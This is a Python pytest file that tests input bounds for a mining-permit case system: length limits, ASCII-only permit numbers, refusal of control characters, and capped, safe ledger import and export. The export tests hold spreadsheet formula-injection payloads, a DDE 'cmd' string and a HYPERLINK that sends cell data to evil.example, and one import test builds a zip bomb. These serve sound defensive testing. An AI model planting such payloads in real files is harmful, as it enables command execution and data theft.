"""Bounded input (issue 18, item 5) without Temporal: every string of every message has a limit, permit numbers
are ASCII, text refuses control characters, rule messages quote only a short prefix of input, and the ledger's
import and export are capped and safe (review findings 3, 4, 8, 9, 10)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from pydantic import BaseModel, ValidationError
from sqlmodel import Session

from casefile.db import open_casefile
from casefile.tables import CaseRecord
from models.bounds import ECHO_CHARS, echo
from models.messages import MineFacts, MoveDeadline, ProposeDisposition, RecomputeDeadlines, RecordReview, RegisterCase, SubmitDocument
from models.roles import Actor, Department, Role
from models.verbs import VERB_LIST
from operations.ledger import MAX_CELL_CHARS, LedgerError, export_ledger, parse_ledger
from operations.ledger_history import RowOutcome, Taken
from operations.ledger_upload import MAX_REPORTED_ROWS, ImportReport
from tests.rules_helpers import refused
from tests.test_case_rules import D, rectifying

HEADINGS = ["采矿许可证号", "矿山名称", "采矿权人", "所属林场、乡镇"]
PERMIT = "C3609239999000000000015"
FACTS = {"mine_name": "测试石灰岩矿（虚构）", "holder": "测试矿业有限公司（虚构）", "township": "泗溪镇"}


def _unbounded_strings(schema: dict[str, Any], defs: dict[str, Any], where: str, seen: set[str]) -> list[str]:
    """Every string in a JSON schema with neither a length limit nor a closed set of values."""
    if "$ref" in schema:
        name = schema["$ref"].rsplit("/", 1)[-1]
        if name in seen:
            return []
        return _unbounded_strings(defs[name], defs, f"{where}<{name}>", seen | {name})
    found = []
    if schema.get("type") == "string" and "maxLength" not in schema and "enum" not in schema and "const" not in schema \
            and schema.get("format") not in ("date", "date-time"):
        found.append(where)
    for key in ("anyOf", "oneOf", "allOf"):
        for option in schema.get(key, []):
            found += _unbounded_strings(option, defs, where, seen)
    for name, sub in schema.get("properties", {}).items():
        found += _unbounded_strings(sub, defs, f"{where}.{name}", seen)
    for key in ("items", "additionalProperties", "propertyNames"):
        if isinstance(schema.get(key), dict):
            found += _unbounded_strings(schema[key], defs, f"{where}[{key}]", seen)
    return found


def test_every_string_of_every_message_has_a_length_limit():
    models: list[type[BaseModel]] = [v.message for v in VERB_LIST] + [RegisterCase, MineFacts, Actor, RecomputeDeadlines]
    unbounded = []
    for model in models:
        schema = model.model_json_schema()
        unbounded += _unbounded_strings(schema, schema.get("$defs", {}), model.__name__, {model.__name__})
    policy_free = [u for u in unbounded if "<CampaignPolicy>" not in u]  # campaign files, not a person's input
    assert policy_free == []


def test_a_task_id_of_a_megabyte_is_refused_by_the_message_itself():
    department = Actor(role=Role.department, name="审批员", department=Department.water)
    with pytest.raises(ValidationError):
        RecordReview(actor=department, task_id="x" * 1_000_000, approved=True)
    with pytest.raises(ValidationError):
        MoveDeadline(actor=department, kind="k" * 65, new_last_day=dt.date(2030, 1, 1), meeting="会议", reason="原因")
    with pytest.raises(ValidationError):
        Actor(role=Role.viewer, name="名" * 101)


def _spelled(zero: int, permit: str = PERMIT) -> str:
    """``permit`` with its digits taken from the block of ten digits starting at code point ``zero``."""
    return permit[0] + "".join(chr(zero + int(d)) for d in permit[1:])


def test_a_permit_number_in_fullwidth_digits_is_the_permit_in_ascii_digits():
    assert MineFacts(permit_no=_spelled(0xFF10), **FACTS).permit_no == PERMIT  # fullwidth, as office documents have them
    assert MineFacts(permit_no=_spelled(0x1D7CE), **FACTS).permit_no == PERMIT  # mathematical bold
    one_fullwidth = PERMIT[:-1] + chr(0xFF10 + int(PERMIT[-1]))
    assert MineFacts(permit_no=f"\u3000{one_fullwidth.lower()}\u00a0", **FACTS).permit_no == PERMIT


@pytest.mark.parametrize("lookalike", [
    _spelled(0x0660),  # Arabic-Indic digits
    _spelled(0x0966),  # Devanagari digits
    PERMIT[:-2] + "\u200b" + PERMIT[-2:],  # a zero-width space inside
    "\u0421" + PERMIT[1:],  # Cyrillic Es
])
def test_a_permit_number_with_digits_or_letters_other_than_ascii_is_refused_naming_the_character(lookalike):
    with pytest.raises(ValidationError) as refusal:
        MineFacts(permit_no=lookalike, **FACTS)
    message = refusal.value.errors()[0]["msg"]
    assert "采矿许可证号只能由 C 和阿拉伯数字 0-9 组成" in message and "the digits 0-9 only" in message
    assert "U+" in message


@pytest.mark.parametrize("field", ["mine_name", "holder", "township", "leader", "mineral"])
def test_a_control_character_in_a_mines_facts_is_refused_in_both_languages(field):
    for bad in ("a\x00b", "a\x0cb", "a\nb", "a\tb"):
        with pytest.raises(ValidationError) as refusal:
            MineFacts(permit_no=PERMIT, **{**FACTS, field: bad})
        message = refusal.value.errors()[0]["msg"]
        assert "控制字符" in message and "control character" in message


def test_a_comment_or_reason_keeps_its_lines_and_tabs_but_refuses_other_control_characters():
    township = Actor(role=Role.township, name="乡镇干部", township="泗溪镇")
    kept = ProposeDisposition(actor=township, path="continue", reason="第一行\r\n第二行\t完", comment="一\n二")
    assert kept.reason == "第一行\r\n第二行\t完"
    for bad in ("\x00", "\x1b[31m", "\x07"):
        with pytest.raises(ValidationError):
            ProposeDisposition(actor=township, path="continue", reason=f"理由{bad}")
    with pytest.raises(ValidationError):
        MoveDeadline(actor=township, kind="rectification", new_last_day=dt.date(2030, 1, 1), meeting="会议\n纪要", reason="原因")


def test_echo_keeps_a_short_input_and_cuts_a_long_one_to_forty_characters():
    assert echo("T01") == "T01"
    assert echo("x" * 1000) == "x" * ECHO_CHARS + "…"


def test_a_review_of_an_unknown_task_quotes_at_most_forty_characters_of_the_id():
    case = rectifying()
    water = Actor(role=Role.department, name="审批员", department=Department.water)
    task_id = "T" * 64
    violation = refused(case, case.record_review, RecordReview(actor=water, task_id=task_id, approved=True), D)
    assert task_id not in violation.zh and task_id not in violation.en
    assert "T" * ECHO_CHARS + "…" in violation.zh and "T" * ECHO_CHARS + "…" in violation.en


def test_an_unknown_document_or_deadline_is_quoted_by_a_short_prefix_only():
    case = rectifying()
    holder = Actor(role=Role.holder, name="采矿权人代表")
    item = "i" * 64
    violation = refused(case, case.submit_document, SubmitDocument(actor=holder, item=item), D)
    assert item not in violation.message and "i" * ECHO_CHARS + "…" in violation.en
    office = Actor(role=Role.office, name="领导小组办公室")
    kind = "k" * 64
    violation = refused(case, case.move_deadline,
                        MoveDeadline(actor=office, kind=kind, new_last_day=dt.date(2031, 1, 1), meeting="会议", reason="原因"), D)
    assert kind not in violation.message and "k" * ECHO_CHARS + "…" in violation.zh


# -- the ledger -----------------------------------------------------------------------------------------


def _csv(path: Path, rows: list[list[str]]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([HEADINGS, *rows])
    return path


def test_a_ledger_of_more_rows_than_the_cap_is_refused_whole(tmp_path):
    rows = [[f"C36092399990000000{n:05d}", "砂场（虚构）", "某公司", "泗溪镇"] for n in range(11)]
    with pytest.raises(LedgerError) as refusal:
        parse_ledger(_csv(tmp_path / "big.csv", rows), max_rows=10)
    assert "超过 10 行" in refusal.value.zh and "more than 10 rows" in refusal.value.en
    assert len(parse_ledger(_csv(tmp_path / "ten.csv", rows[:10]), max_rows=10).rows) == 10


def test_a_ledger_of_five_thousand_and_one_rows_is_refused_by_default(tmp_path):
    rows = [["B", "m", "h", "t"]] * 5001
    with pytest.raises(LedgerError, match="5000"):
        parse_ledger(_csv(tmp_path / "many.csv", rows))


def test_a_cell_is_read_only_up_to_its_cap_and_the_fields_own_limit_refuses_it(tmp_path):
    parsed = parse_ledger(_csv(tmp_path / "long.csv", [[PERMIT, "名" * 100_000, "h", "泗溪镇"]]))
    assert not parsed.rows and len(parsed.rejected) == 1
    assert any("100" in reason for reason in parsed.rejected[0].reasons)
    parsed = parse_ledger(_csv(tmp_path / "permit.csv", [["C" * 100_000, "m", "h", "泗溪镇"]]))
    assert len(parsed.rejected[0].permit_no) <= ECHO_CHARS + 1
    assert MAX_CELL_CHARS < 100_000


def test_a_workbook_that_unzips_past_the_limit_is_refused_before_it_is_read(tmp_path):
    path = tmp_path / "bomb.xlsx"
    book = Workbook()
    book.active.append(HEADINGS)
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as small, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in small.infolist():
            bomb.writestr(info, small.read(info))
        bomb.writestr("xl/padding.xml", b"A" * (60 * 1024 * 1024))  # 60 MB unpacked, tens of KB packed
    assert path.stat().st_size < 1024 * 1024
    with pytest.raises(LedgerError) as refusal:
        parse_ledger(path)
    assert "解压后超过 50 MB" in refusal.value.zh and "unpacks to more than 50 MB" in refusal.value.en


def test_a_report_lists_the_first_rejected_rows_with_their_reasons_and_counts_all_of_them():
    taken = Taken(check=True, rows=[RowOutcome(row=n, permit_no="B", status="refused", reasons=["坏 / bad"]) for n in range(2, 1002)])
    report = ImportReport.of(taken).as_dict()
    assert report["rejected_count"] == 1000
    assert len(report["rejected"]) == MAX_REPORTED_ROWS and report["rejected"][0]["row"] == 2


def _casefile_with(tmp_path: Path, **names: str):
    engine = open_casefile(f"sqlite:///{tmp_path / 'casefile.db'}", upgrade=True)
    now = dt.datetime(2030, 1, 1, tzinfo=dt.UTC)
    with Session(engine) as session:
        session.add(CaseRecord(permit_no=PERMIT, workflow_id=f"mine-{PERMIT}", campaign="shanggao-2023",
                               mine_name=names.get("mine_name", "矿"), holder=names.get("holder", "公司"),
                               township=names.get("township", "泗溪镇"), leader=names.get("leader", ""),
                               stage="registered", path="undecided", registered_at=now, updated_at=now))
        session.commit()
    return engine


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_the_export_writes_a_formula_like_name_as_text_after_an_apostrophe(tmp_path, name):
    engine = _casefile_with(tmp_path, mine_name=name, holder='=HYPERLINK("http://evil.example/?x="&A1,"click")')
    try:
        sheet = load_workbook(io.BytesIO(export_ledger(engine, today=dt.date(2030, 1, 2))))["台账"]
        row = {sheet.cell(1, c).value: sheet.cell(2, c) for c in range(1, sheet.max_column + 1)}
        for heading, value in (("矿山名称", name), ("采矿权人", '=HYPERLINK("http://evil.example/?x="&A1,"click")')):
            cell = row[heading]
            assert cell.data_type == "s" and cell.value == "'" + value.replace("\r", "\n")  # XML reads CR as LF
    finally:
        engine.dispose()


def test_the_export_drops_control_characters_instead_of_failing(tmp_path):
    engine = _casefile_with(tmp_path, mine_name="a\x00b\x1bc", township="泗溪镇\x07")
    try:
        book = load_workbook(io.BytesIO(export_ledger(engine, today=dt.date(2030, 1, 2))))
        assert book["台账"].cell(2, 2).value == "abc"
        assert [r[0] for r in book["分乡镇统计"].iter_rows(min_row=2, values_only=True)] == ["泗溪镇", "合计"]
    finally:
        engine.dispose()


def test_an_exported_formula_like_name_imports_again_as_it_was(tmp_path):
    path = tmp_path / "again.xlsx"
    book = Workbook()
    book.active.append(HEADINGS)
    book.active.append([PERMIT, "'-西矿（虚构）", "'=某公司", "泗溪镇"])
    book.save(path)
    parsed = parse_ledger(path)
    assert parsed.rows[0].facts.mine_name == "-西矿（虚构）" and parsed.rows[0].facts.holder == "=某公司"


def test_the_cli_refuses_a_control_character_or_an_overlong_code_in_one_bilingual_line_before_connecting():
    from typer.testing import CliRunner

    from cli.app import app

    runner = CliRunner()
    bell = runner.invoke(app, ["review", f"{PERMIT}-T01", "--approve", "--department", "natural_resources", "--by", "a\x07b"])
    assert bell.exit_code == 2 and "控制字符（U+0007）" in bell.output and "control character (U+0007)" in bell.output
    long_item = runner.invoke(app, ["submit", PERMIT, "x" * 70, "--by", "矿方"])
    assert long_item.exit_code == 2 and "item" in long_item.output and len(long_item.output.splitlines()) == 1
